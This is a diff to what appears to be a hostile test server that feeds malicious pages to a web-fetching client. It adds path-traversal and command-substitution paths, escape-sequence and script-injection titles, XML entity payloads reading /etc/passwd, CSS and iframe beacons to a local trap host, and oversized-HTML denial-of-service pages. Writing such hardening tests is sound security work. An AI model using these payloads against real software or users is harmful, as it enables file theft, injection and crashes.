@@ -2,8 +2,9 @@
 """A hostile web server: each attack has a host of its own, NAME.example.
 
   attacks.py --root DIR --state DIR [--log FILE]     serves, as server.py does
-  attacks.py --list GROUP                            name, address, outcome and
-                                                     reason (a pattern), by tabs
+  attacks.py --list GROUP                            name, address, outcome,
+                                                     reason (both patterns), and
+                                                     address as cited, by tabs
   attacks.py --hosts                                 the names that it serves
 
 STATE/ports has "name port" lines: "http" and "https", and what answers in its
@@ -29,13 +30,19 @@ class Attack:
         self.group, self.name, self.outcome, self.reason, self.answer = group, name, outcome, reason, answer
         self.host = name + ".example"
         # The port of what is found by its name, without --connect-to, is known later.
-        self.url = "%s://%s%s%s" % (scheme, self.host, ":HTTP" if group == "rebinding" else "", path)
+        start = "%s://%s%s" % (scheme, self.host, ":HTTP" if group == "rebinding" else "")
+        self.cited, _, kept = path.partition(" ")
+        self.url, self.cited = start + (kept or self.cited), start + self.cited
 
 
 def attack(group, name, outcome, reason="", scheme="http", path="/page"):
-    """Registers what answers at NAME.example, and what becomes of path there."""
+    """Registers what answers at NAME.example, and what becomes of path, or of each of them, there.
+
+    A path is followed by a space and by what it is the same as, where that is another.
+    """
     def keep(answer):
-        ATTACKS.append(Attack(group, name, outcome, reason, scheme, path, answer))
+        for one in [path] if isinstance(path, str) else path:
+            ATTACKS.append(Attack(group, name, outcome, reason, scheme, one, answer))
         return answer
     return keep
 
@@ -520,6 +527,90 @@ def _(c):
     c.reply(picture(201), kind="image/png")
 
 
+# ---- pages, and their names ----
+
+def page(name, make, outcome="article", reason="", kind="text/html; charset=utf-8", path="/page", fields=()):
+    @attack("page", name, outcome, reason, path=path)
+    def _(c):
+        made = make(c) if callable(make) else make
+        if not c.target.startswith("/own"):
+            c.reply(made, kind=kind, fields=fields)
+
+
+def paths(name, *them):
+    page(name, lambda c: article(name, "<p>This one is %d.</p>" % (sum(c.target.encode()) * len(c.target))), path=them)
+
+
+paths("path-dots", "/../../../../../../tmp/kb-owned /tmp/kb-owned", "/a/b/../../../kb-owned /kb-owned", "/%2e%2e/%2E%2E/x/kb-owned /x/kb-owned", "/....//....//kb-owned", "/..;/kb-owned")
+paths("path-escaped-dots", "/..%2f..%2f..%2f..%2ftmp%2fkb-owned", "/%252e%252e%252fkb-owned", "/..%5c..%5c..%5ckb-owned", "/..%c0%af..%c0%afkb-owned", "/..%ef%bc%8fkb-owned")
+paths("path-absolute", "//etc/passwd", "/~root/.bashrc", "/file:///etc/passwd", "/C:/Windows/kb-owned", "/%5c%5chost%5cshare")
+paths("path-device", "/CON", "/nul.txt", "/aux.html", "/COM1", "/lpt9.tar.gz", "/prn.", "/CONIN$", "/clock$", "/com%C2%B9")
+paths("path-signs", "/a:b.html", "/a%3Ab", "/%3C%3E%22%7C%3F%2A", "/a%00b", "/%01%1b%5d0%3bowned%07", "/-rf", "/%60id%60", "/$(id)", "/%E2%80%AEgpj.exe", "/.htaccess", "/.git/config")
+paths("path-ends", "/name.", "/name..", "/name%20", "/name%20.", "/%20name", "/name/", "/name//")
+paths("path-case", "/Same", "/same", "/SAME", "/%C3%A9t%C3%A9", "/e%CC%81te%CC%81", "/%EF%AC%81", "/fi", "/stra%C3%9Fe", "/strasse", "/%C4%B0", "/i%CC%87")
+paths("path-long", "/" + "long" * 800, "/" + "%E6%B0%B4" * 200, "/" + "a/" * 300, "/x?" + "q=" * 700)
+page("disposition", b"%PDF-1.4\n" + b"1 0 obj <</Type /Catalog>> endobj\n" * 50 + b"%%EOF\n", "document", kind="application/pdf",
+     fields=[("Content-Disposition", 'attachment; filename="../../../../tmp/kb-owned.sh"')])
+page("title-path", article("titles", title="../../../../../tmp/kb-owned\\..\\CON"))
+page("title-escapes", article("escapes", title="Title \x1b]0;owned\x07 \x1b[2J \x9b31m \x9d52;c;b3duZWQ=\x07 \x08\x7f&#27;[8m end"))
+page("title-bidi", article("bidi", title="Title \u202egpj.exe\u202c \u2066x\u2069 \u200f end"))
+page("title-markup", article("markup", title="&lt;script&gt;ran=1&lt;/script&gt;&lt;/title&gt;&lt;img src=x onerror=ran=1&gt; end"))
+page("title-endless", article("endless", title="word " * 200000))
+page("author-escapes", article("authors", head='<meta name=author content="A\x1b]0;owned\x07 &lt;img src=x onerror=ran=1&gt;"><meta property="og:site_name" content="S\x1b[2J">'))
+
+
+def shown(name, answer, kind):
+    """A page with a picture that is the attack."""
+    @attack("page", name, "article")
+    def _(c):
+        if c.target == "/page":
+            c.reply(article(name, '<p><img src="/picture" width=400 height=300 alt="a ship"></p>'))
+        else:
+            c.reply(answer(c), kind=kind)
+
+
+shown("svg-script", lambda c: "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='100' height='80' onload='ran=1'><script>ran=1</script>"
+      "<foreignObject><iframe src='javascript:ran=1'/></foreignObject><a xlink:href='javascript:ran=1'><rect width='50' height='40' fill='red'/></a>"
+      "<style>@import 'http://127.0.0.2:%d/style'; rect { fill: url(http://127.0.0.2:%d/fill) }</style><image href='http://127.0.0.2:%d/image' width='9' height='9'/>"
+      "<use href='http://127.0.0.2:%d/use#a'/><animate attributeName='href' values='javascript:ran=1'/><set attributeName='onload' to='ran=1'/></svg>" % ((c.trap,) * 4), "image/svg+xml")
+shown("svg-entities", lambda c: "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a '%s'>%s<!ENTITY x SYSTEM 'file:///etc/passwd'><!ENTITY y SYSTEM 'http://127.0.0.2:%d/entity'>]>"
+      "<svg xmlns='http://www.w3.org/2000/svg' width='100' height='80'><text>&i;&x;&y;</text><rect width='50' height='40'/></svg>" % (
+          "lol" * 20, "".join("<!ENTITY %s '%s'>" % (chr(98 + i), ("&%s;" % chr(97 + i)) * 20) for i in range(8)), c.trap), "image/svg+xml")
+shown("svg-deep", lambda c: "<svg xmlns='http://www.w3.org/2000/svg' width='100' height='80'>" + "<g>" * 300000 + "</g>" * 300000 + "</svg>", "image/svg+xml")
+shown("polyglot-gif-script", lambda c: b"GIF89a/*\x01\0\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\0;*/=1;ran=1;//<script>ran=1</script>", "image/gif")
+shown("polyglot-png-html", lambda c: picture(7) + b"<!doctype html><html><script>ran=1</script><img src=x onerror=ran=1></html>", "text/html")
+shown("polyglot-svg-html", lambda c: "<html xmlns='http://www.w3.org/1999/xhtml'><svg xmlns='http://www.w3.org/2000/svg'><script>ran=1</script></svg><script>ran=1</script></html>", "image/svg+xml")
+page("polyglot-pdf-html", b"%PDF-1.4\n<!doctype html><script>ran=1</script><img src=x onerror=ran=1>\n" + b"1 0 obj <</Type /Catalog /OpenAction <</S /JavaScript /JS (ran=1)>>>> endobj\n%%EOF\n",
+     "document", kind="text/html")
+page("css-calls-home", lambda c: article("sheets", "<p style=\"background:url(http://127.0.0.2:%d/inline)\">A styled paragraph that is long enough.</p>"
+     "<table background='http://127.0.0.2:%d/table'><tr><td>cell</td></tr></table><div style='background-image:image-set(&quot;http://127.0.0.2:%d/set&quot; 1x)'>x</div>" % ((c.trap,) * 3), head=
+     "<style>@import 'http://127.0.0.2:%d/import'; @font-face { font-family: a; src: url(http://127.0.0.2:%d/font) } body { background: u\\72l(http://127.0.0.2:%d/back) }"
+     " input[value^=a] { background: url(http://127.0.0.2:%d/leak) }</style>" % ((c.trap,) * 4)))
+page("base-elsewhere", lambda c: article("bases", '<p><img src="left.png" width=400 height=300><a href="right">right</a></p>', head='<base href="http://127.0.0.2:%d/base/">' % c.trap))
+page("form-and-frame", lambda c: article("forms", '<form action="http://127.0.0.2:%d/form"><input autofocus onfocus=ran=1 name=q><button formaction="javascript:ran=1">go</button></form>'
+     '<iframe src="http://127.0.0.2:%d/frame" srcdoc="<script>ran=1</script>"></iframe><object data="http://127.0.0.2:%d/object"></object><embed src="http://127.0.0.2:%d/embed">'
+     '<portal src="http://127.0.0.2:%d/portal"></portal>' % ((c.trap,) * 5)))
+page("utf-7", article("sevens", "+ADw-script+AD4-ran=1+ADw-/script+AD4-").replace("utf-8", "utf-7"), kind="text/html; charset=utf-7")
+page("charset-switch", "<!doctype html><title>a</title><article>\x1b$B<img alt='\x1b(B' title='><script>ran=1</script>'>".encode() + article("switch").encode(), kind="text/html; charset=iso-2022-jp")
+with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "browser", "vectors.txt"), encoding="utf-8") as f:
+    VECTORS = f.read()
+page("mutations", lambda c: article("mutations", "".join("<div>%s</div><p>%s</p>" % (v, sentence(i, "vectors")) for i, v in enumerate(VECTORS.split("\n")))))
+
+# What a page may cost: 12 MB at most, and each in a shape of its own.
+page("html-deep", lambda c: article("depths", "<div>" * 500000 + "x"), "article|worker|too-large")
+page("html-deep-formats", lambda c: article("formats", "<b><i><u><p>" * 30000 + "x"), "article|worker|too-large")
+page("html-deep-tables", lambda c: article("tables", "<table><tr><td>" * 30000 + "x"), "article|worker|too-large")
+page("html-wide", lambda c: article("widths", "<p>a" * 2000000), "article|list|worker|too-large")
+page("html-links", lambda c: article("links", '<a href="/x">a</a>' * 400000), "article|list|worker|too-large")
+page("html-attributes", lambda c: article("attributes", "<p " + " ".join("a%d=1" % i for i in range(600000)) + ">x</p>"), "article|worker|too-large")
+page("html-attribute", lambda c: article("attribute", '<p title="' + "a" * 12000000 + '">x</p>'), "article|worker|too-large")
+page("html-misnested", lambda c: article("nests", "<a><b><i><p></a></b>" * 30000), "article|worker|too-large")
+page("html-entities", lambda c: article("entities", "<p>" + "&NotEqualTilde;&#x10ffff;&" * 300000), "article|worker|too-large")
+page("html-comments", lambda c: article("comments", "<!--" * 1000000 + "<![CDATA[" * 10000 + "<?" * 10000), "article|worker|too-large")
+page("html-options", lambda c: article("options", "<select>" + "<option>a" * 500000), "article|worker|too-large")
+page("html-sources", lambda c: article("sources", '<img src="/own.png" width=400 height=300 srcset="' + ", ".join("/own%d.png %dw" % (i, i + 1) for i in range(200000)) + '">'), "article|worker|too-large")
+
+
 # ---- the network ----
 
 @attack("tls", "tls-expired", "tls", "certificate has expired", scheme="https")
@@ -763,7 +854,7 @@ def main():
     p.add_argument("--names", action="store_true", help="what names.so is told")
     a = p.parse_args()
     if a.list:
-        print("\n".join("\t".join((x.name, x.url, x.outcome, x.reason)) for x in ATTACKS if x.group == a.list))
+        print("\n".join("\t".join((x.name, x.url, x.outcome, x.reason, x.cited)) for x in ATTACKS if x.group == a.list))
         return
     if a.hosts:
         print("\n".join(x.host for x in ATTACKS if x.host not in DOORS and x.group != "rebinding"))
